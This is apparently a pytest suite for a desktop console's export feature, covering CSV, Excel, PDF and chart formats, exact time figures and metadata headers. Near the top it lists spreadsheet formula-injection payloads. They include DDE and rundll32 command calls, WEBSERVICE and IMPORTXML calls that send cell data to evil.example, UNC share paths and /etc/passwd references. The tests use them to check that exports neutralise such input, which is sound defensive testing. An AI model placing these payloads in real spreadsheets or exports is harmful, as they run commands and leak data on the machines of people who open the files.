"""Exports: every form carries its filters, zone and time; figures are exact; titles that would run in a spreadsheet do not."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PyQt5.QtGui import QImage
from PyQt5.QtWidgets import QApplication

from console.export.content import Cell, Content, Head, Sheet, clock_seconds
from console.export.csv_file import write_csv
from console.export.exporter import Exporter, Stopped, put_in_place
from console.export.harmless import STARTS, harmless, is_harmful
from console.export.pdf_file import write_pdf
from console.export.xlsx_file import write_xlsx
from console.models.rows import Unit
from console.services import Services
from console.trouble import ServerAway, Trouble
from console.window import TABS, Window
from policy.summaries import ExportForm
from tests.console import fakes
from tests.console.conftest import wait_for

HEAD = Head("Overview", "Kaveri", "Asia/Kolkata", datetime(2025, 11, 20, 8, 32, tzinfo=UTC), "meera", (("Days", "20 Nov"), ("Whom", "x")))

BEGINNINGS = ["=", "+", "-", "@", "\t=", "\r=", " =", "|", "＝", "＋", "－", "＠", "\u200b=", "'=", "%", "\ufeff="]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', 'WEBSERVICE("http://evil.example/"&A1)', "DDE(\"cmd\";\"/C calc\";\"x\")",
    "SUM(A1:A9)", "IMPORTXML(\"http://evil.example\",\"//a\")", "file:///etc/passwd", "\\\\evil.example\\share", "IMAGE(\"http://evil.example/x.png\")",
    "rundll32|'URL.dll,OpenURL calc.exe'!A", "INDIRECT(\"A1\")", "",
]  # fmt: skip
CORPUS = [beginning + body for beginning in BEGINNINGS for body in BODIES] + [
    "plain", "http://ordinary.example", "<a href='http://x'>x</a>", "\x00\x07\x1b[31m", "\u202egpj.exe", "x" * 5000,
    "a,b;c\"d\ne", "हिन्दी বাংলা", "😀",
]  # fmt: skip


def content(texts: list[str], figures: list[int] | None = None) -> Content:
    """Return a table of texts beside seconds."""
    rows = [[Cell(text), Cell("about", figure)] for text, figure in zip(texts, figures or [0] * len(texts), strict=True)]
    return Content(HEAD, (Sheet("Titles", ("Title", "Engaged"), (Unit.TEXT, Unit.SECONDS), lambda: rows),))


def shown(text: str) -> str:
    """How a model would say a foreign text."""
    from console import words

    return words.safe(text, 40_000)


@pytest.mark.quality("S-11")
def test_two_hundred_hostile_titles_become_strings_in_excel_and_nothing_else(tmp_path: Path) -> None:
    texts = [shown(text) for text in CORPUS]
    assert len(texts) >= 200
    assert write_xlsx(content(texts), tmp_path / "x.xlsx") == len(texts)
    with zipfile.ZipFile(tmp_path / "x.xlsx") as file:
        inside = {name: file.read(name).decode("utf-8") for name in file.namelist() if name.endswith((".xml", ".rels"))}
    assert not any(re.search(r"<f[ >/]|<hyperlink|ddeLink|externalLink", text) for name, text in inside.items() if "theme" not in name)
    assert not any("TargetMode" in text for text in inside.values())
    read = openpyxl.load_workbook(tmp_path / "x.xlsx")["Titles"]
    cells = [row[0] for row in read.iter_rows(min_row=2)]
    assert [cell.value or "" for cell in cells] == texts
    assert {cell.data_type for cell in cells if cell.value} == {"s"}


@pytest.mark.quality("S-11")
def test_no_cell_of_a_csv_or_the_clipboard_begins_like_a_formula(tmp_path: Path) -> None:
    write_csv(content([shown(text) for text in CORPUS]), tmp_path / "x.csv")
    raw = (tmp_path / "x.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row if cell]
    assert len(rows) > 200
    assert not any(cell.lstrip()[:1] in STARTS for cell in cells)


@pytest.mark.quality("S-11")
def test_libreoffice_opens_the_hostile_file_and_finds_no_formula(tmp_path: Path) -> None:
    import shutil

    office = shutil.which("soffice")
    if office is None:
        pytest.skip("needs LibreOffice")
    write_xlsx(content([shown(text) for text in CORPUS]), tmp_path / "x.xlsx")
    subprocess.run(
        [office, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(tmp_path / "x.xlsx")], check=True, timeout=120
    )
    assert "table:formula" not in (tmp_path / "x.fods").read_text("utf-8")


@given(st.text(max_size=60))
def test_a_harmless_text_stays_and_a_harmful_one_is_quoted_once(text: str) -> None:
    made = harmless(text)
    assert not is_harmful(made) or made.startswith("'")
    assert made.removeprefix("'") == " ".join(text.split()) or made == " ".join(text.split())
    assert "\n" not in made and "\t" not in made


@given(st.integers(0, 10**8))
def test_seconds_come_back_exactly_from_a_csv(seconds: int) -> None:
    hours, minutes, rest = map(int, clock_seconds(seconds).split(":"))
    assert hours * 3600 + minutes * 60 + rest == seconds


@given(st.lists(st.integers(0, 10**7), min_size=1, max_size=8))
def test_seconds_come_back_exactly_from_excel(tmp_path_factory: pytest.TempPathFactory, seconds: list[int]) -> None:
    path = tmp_path_factory.mktemp("x") / "x.xlsx"
    write_xlsx(content(["a"] * len(seconds), seconds), path)
    sheet = openpyxl.load_workbook(path)["Titles"]
    read = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert [round(value.total_seconds()) if hasattr(value, "total_seconds") else round(_days(value) * 86_400) for value in read] == seconds


def _days(value: object) -> float:
    from openpyxl.utils.datetime import to_excel

    return float(value) if isinstance(value, int | float) else float(to_excel(value))


def test_every_form_says_what_it_is_about(tmp_path: Path, qapp: QApplication) -> None:
    made = content(["one"])
    write_csv(made, tmp_path / "x.csv")
    write_xlsx(made, tmp_path / "x.xlsx")
    write_pdf(made, tmp_path / "x.pdf", qapp.font().family())
    about = openpyxl.load_workbook(tmp_path / "x.xlsx")["About"]
    told = {row[0].value: row[1].value for row in about.iter_rows()}
    assert told["Days"] == "20 Nov" and told["Time zone"] == "Asia/Kolkata" and told["Made by"] == "meera"
    assert told["Made"].startswith("2025-11-20 14:02")
    text = (tmp_path / "x.csv").read_text("utf-8-sig")
    assert all(part in text for part in ("20 Nov", "Asia/Kolkata", "2025-11-20 14:02", "meera"))
    assert "Asia/Kolkata" in pdf_text(tmp_path / "x.pdf")


def pdf_text(path: Path) -> str:
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True, timeout=60).stdout


def test_a_long_table_turns_pages_with_its_headings_and_says_what_it_leaves_out(tmp_path: Path, qapp: QApplication) -> None:
    texts = [f"title {number}" for number in range(3100)]
    assert write_pdf(content(texts), tmp_path / "x.pdf", qapp.font().family()) == 3000
    text = pdf_text(tmp_path / "x.pdf")
    pages = text.count("\f")
    assert pages > 40
    assert text.count("Engaged") >= pages - 1
    assert "100 more rows are in the CSV and Excel exports" in text


def test_nothing_is_left_when_the_server_cannot_note_it(tmp_path: Path) -> None:
    def away(_rows: int) -> None:
        raise ServerAway("gone")

    with pytest.raises(ServerAway):
        put_in_place(lambda path: (path.write_text("secret"), 1)[1], tmp_path / "x.csv", away)
    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_cannot_be_written_is_a_sentence(tmp_path: Path) -> None:
    with pytest.raises(Trouble, match="could not be written"):
        put_in_place(lambda path: (path.write_text("x"), 1)[1], tmp_path / "no such folder" / "x.csv", lambda rows: None)


# --- in the window ------------------------------------------------------------------------------------------------------


@pytest.fixture
def saving(window: Window, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    folder = tmp_path / "exports"
    folder.mkdir()
    monkeypatch.setattr(Exporter, "ask_path", lambda self, frame, form: folder / f"{frame.tab.key}.{form.value}")
    yield folder


def exported(window: Window, form: ExportForm, chart: object = None) -> None:
    window.exporter.start(window.current, form, chart)  # type: ignore[arg-type]
    wait_for(lambda: not window.services.tasks.waiting(window.exporter, "export"), 20_000)


@pytest.mark.parametrize("make", TABS, ids=lambda tab: tab.key)
@pytest.mark.parametrize("form", [ExportForm.CSV, ExportForm.EXCEL, ExportForm.PDF])
def test_every_tab_exports_what_it_shows_and_the_server_knows(window: Window, services: Services, saving: Path, make, form) -> None:
    window.open(make.key)
    wait_for(lambda: not window.current.waiting)
    services.scope.update(search="a")
    exported(window, form)
    assert (saving / f"{make.key}.{form.value}").stat().st_size > 500, window.toast.text()
    [note] = services.api.exports  # type: ignore[attr-defined]
    assert (note.tab, note.form, note.first) == (make.key, form, services.scope.value.first)
    assert note.rows > 0 and note.conditions[-1] == "search: a"
    assert "Saved" in window.toast.text()


@pytest.mark.parametrize("make", TABS, ids=lambda tab: tab.key)
def test_every_column_of_figures_says_what_its_figure_is(window: Window, make) -> None:
    from console.widgets.table import RowsTable

    tables = window.frames[make.key].tab.body.findChildren(RowsTable)
    silent = [
        (table.accessibleName(), column.key)
        for table in tables
        for column in table.rows_model.columns
        if column.number and column.unit is Unit.TEXT
    ]
    assert tables and silent == []


def test_all_pages_of_the_file_audit_are_exported_and_not_only_those_on_the_screen(
    window: Window, services: Services, saving: Path
) -> None:
    window.open("files")
    wait_for(lambda: not window.current.waiting)
    exported(window, ExportForm.CSV)
    text = (saving / "files.csv").read_text("utf-8-sig")
    assert sum("user" in line or "ACC-PC" in line for line in text.splitlines()) >= fakes.MOST_FILE_EVENTS
    assert services.api.exports[0].rows >= fakes.MOST_FILE_EVENTS  # type: ignore[attr-defined]


def test_a_running_export_can_be_stopped(window: Window, saving: Path) -> None:
    window.open("files")
    wait_for(lambda: not window.current.waiting)
    window.exporter.start(window.current, ExportForm.CSV)
    window.exporter.stop()
    wait_for(lambda: not window.services.tasks.waiting(window.exporter, "export"), 20_000)
    assert list(saving.iterdir()) == []
    assert "stopped" in window.toast.text()
    assert issubclass(Stopped, Exception)


def test_a_chart_is_a_picture_with_its_head(window: Window, saving: Path) -> None:
    window.open("applications")
    wait_for(lambda: not window.current.waiting)
    chart = window.current.tab.chart
    exported(window, ExportForm.PNG, chart)
    exported(window, ExportForm.SVG, chart)
    image = QImage(str(saving / "applications.png"))
    assert image.width() > 2 * chart.width()
    svg = (saving / "applications.svg").read_text("utf-8")
    assert "Kaveri Textiles" in svg and "Asia/Kolkata" in svg
    assert not re.search(r"<(image|script|a|foreignObject)\b", svg)


def test_copying_puts_all_tables_on_the_clipboard_and_says_so(window: Window, services: Services) -> None:
    exported(window, ExportForm.CLIPBOARD)
    text = QApplication.clipboard().text()
    assert "Ananya Sharma" in text and "Asia/Kolkata" in text
    assert services.api.exports[0].form is ExportForm.CLIPBOARD  # type: ignore[attr-defined]


def test_with_the_server_away_nothing_leaves_the_window(window: Window, services: Services, saving: Path) -> None:
    services.api.fault = ServerAway("The server did not answer.")  # type: ignore[attr-defined]
    exported(window, ExportForm.CSV)
    assert list(saving.iterdir()) == []
    assert window.toast.text().startswith("Nothing was exported: The server did not answer.")


def test_the_menu_offers_every_form_and_each_chart(window: Window) -> None:
    names = [entry.text() for entry in window.exporter.menu(window.current).actions() if entry.text()]
    assert names[:4] == ["Copy as a table", "CSV file …", "Excel file …", "PDF of this page …"]
    assert any(name.endswith("as PNG …") for name in names)
    assert replace(HEAD, user="x").told()[-1] == ("Made by", "x")
